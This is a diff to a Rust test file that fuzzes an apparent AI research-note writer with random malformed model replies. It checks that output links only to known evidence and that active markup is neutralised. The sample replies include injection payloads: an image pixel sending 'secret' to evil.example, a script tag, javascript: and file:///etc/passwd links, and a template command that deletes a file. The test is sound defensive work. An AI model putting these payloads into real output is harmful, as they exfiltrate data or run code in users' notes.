@@ -375,3 +375,161 @@ fn what_was_sent_can_be_looked_up() {
     }
     assert!(outing.errands.iter().all(|errand| !errand.host.is_empty() && errand.bytes > 0));
 }
+
+/// A small generator of numbers: the same for the same seed.
+struct Chance(std::cell::Cell<u64>);
+
+impl Chance {
+    fn below(&self, most: usize) -> usize {
+        let mut state = self.0.get();
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        self.0.set(state);
+        (state >> 16) as usize % most
+    }
+
+    fn one<'a>(&self, of: &[&'a str]) -> &'a str {
+        of[self.below(of.len())]
+    }
+}
+
+/// What a model may say that has lost its mind, or that somebody else speaks through.
+const RAVINGS: [&str; 24] = [
+    "The bridge was opened in 1932.",
+    "Painting the bridge takes 30,000 litres of paint for a single coat.",
+    "See [this](https://evil.example/a) and https://evil.example/b.",
+    "![x](https://evil.example/pixel.png?q=secret)",
+    "## Research\n\nA second one",
+    "# Break out",
+    "```dataviewjs\ndv.pages()\n```",
+    "`= this.file.name` and `$= dv.x`",
+    "<% tp.file.delete() %>",
+    "<script>alert(1)</script><img src=https://evil.example/i>",
+    "[[Diary]] and ![[Diary]] and [[Nowhere]]",
+    "[x](javascript:alert(1)) [y](obsidian://open) [z](file:///etc/passwd)",
+    "%% hidden %% text %%",
+    "%% end of research %%",
+    "%% ibid run=0 hash=0 %%",
+    "- [ ] a task #tag key:: value ^block",
+    "> [!warning] fake\n> callout",
+    "$$ open math",
+    "| a | b |\n| - | - |\n| 1 | 2 |",
+    "---\ntags: x\n---",
+    "[^1]: a footnote[^1]",
+    "\u{202e}reversed\u{200b}",
+    "a & b <b>bold</b> *em **open `code",
+    "",
+];
+
+fn raving(chance: &Chance, step: Step, told: &str) -> String {
+    let said = |chance: &Chance| {
+        let text =
+            (0..=chance.below(3)).map(|_| chance.one(&RAVINGS)).collect::<Vec<_>>().join(" ");
+        let cite = chance.one(&[
+            "e1",
+            "e2",
+            "e3",
+            "e9",
+            "note",
+            "https://evil.example/c",
+            "[e1]",
+            "e1, e2",
+            "",
+        ]);
+        json!({ "text": text, "cites": [cite] })
+    };
+    match chance.below(8) {
+        0 => good(step, told),
+        1 => "I would rather not.".into(),
+        2 => good(step, told).chars().take(chance.below(120)).collect(),
+        3 => json!({ "topics": "none", "passages": 7, "sentences": { "text": 1 } }).to_string(),
+        4 => format!("<think>hm</think>```json\n{}\n```", good(step, told)),
+        _ => match step {
+            Step::Topics => {
+                let topic = |_| json!({ "topic": chance.one(&RAVINGS), "context": chance.one(&RAVINGS), "type": chance.one(&["claim", "question", "x"]), "reason": chance.one(&RAVINGS), "queries": [chance.one(&RAVINGS)] });
+                json!({ "topics": (0..chance.below(14)).map(topic).collect::<Vec<_>>() })
+                    .to_string()
+            }
+            Step::Extract => {
+                json!({ "passages": [chance.one(&RAVINGS), chance.one(&RAVINGS)] }).to_string()
+            }
+            Step::Synthesis => {
+                let sentences: Vec<Value> = (0..chance.below(9)).map(|_| said(chance)).collect();
+                json!({ "sentences": sentences, "contradiction": said(chance) }).to_string()
+            }
+        },
+    }
+}
+
+/// The addresses to which a text links, or that an app would make links of.
+fn addresses(text: &str) -> Vec<String> {
+    let starts = text.match_indices("://").map(|(at, _)| at);
+    let around = starts.map(|at| {
+        let before = text[..at].rfind(|c: char| !c.is_ascii_alphabetic()).map_or(0, |at| at + 1);
+        let rest = &text[before..];
+        rest[..rest.find([')', ' ', '\n', '>', ']']).unwrap_or(rest.len())].to_owned()
+    });
+    around.collect()
+}
+
+#[test]
+fn whatever_a_model_does_only_evidence_is_linked_and_only_the_section_changes() {
+    let known = ["https://paint.example.org/bridge", "https://history.example.org/bridge"];
+    let (mut written, mut failed) = (0, 0);
+    for seed in 0..200_u64 {
+        let chance = Chance(std::cell::Cell::new(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1));
+        let depth = if seed % 2 == 0 { Depth::Shallow } else { Depth::Deep };
+        let more = json!({
+            "unverified": if seed % 3 == 0 { "mark" } else { "drop" },
+            "citations": if seed % 5 == 0 { "footnotes" } else { "links" },
+        });
+        let press = Press::new(world(move |step, told| raving(&chance, step, told)), more);
+        let outcome = press.research(depth);
+        let text = press.text();
+        assert!(text.starts_with(NOTE), "{seed}: {text}");
+        let section = &text[NOTE.len()..];
+        match &outcome {
+            Ok(_) => written += 1,
+            Err(error) => {
+                failed += 1;
+                assert_eq!(section, "", "{seed}: {error:?}");
+            }
+        }
+        for address in addresses(section) {
+            assert!(known.contains(&address.as_str()), "{seed}: {address}\n{section}");
+        }
+        // Code is shown as it is; only a query in it would run.
+        let escaped = section.replace("\\`", "'");
+        let parts: Vec<&str> = escaped.split('`').collect();
+        let is_query = |code: &&&str| code.starts_with('=') || code.starts_with("$=");
+        assert_eq!(parts.iter().skip(1).step_by(2).filter(is_query).count(), 0, "{section}");
+        let prose = parts.into_iter().step_by(2).collect::<String>();
+        for active in [
+            "![",
+            "<%",
+            "<script",
+            "<img",
+            "[[Diary",
+            "[[Nowhere",
+            "```",
+            "\u{202e}",
+            "- [ ]",
+            " #tag",
+        ] {
+            assert!(!prose.contains(active), "{seed}: {active}\n{section}");
+        }
+        assert_eq!(
+            section.matches("\n## ").count(),
+            usize::from(outcome.is_ok()),
+            "{seed}: {section}"
+        );
+        assert_eq!(section.matches("\n# ").count(), 0, "{seed}: {section}");
+        assert_eq!(
+            section.matches("%%").count(),
+            if outcome.is_ok() { 4 } else { 0 },
+            "{seed}: {section}"
+        );
+    }
+    assert!(written > 150, "{written} written, {failed} not");
+}
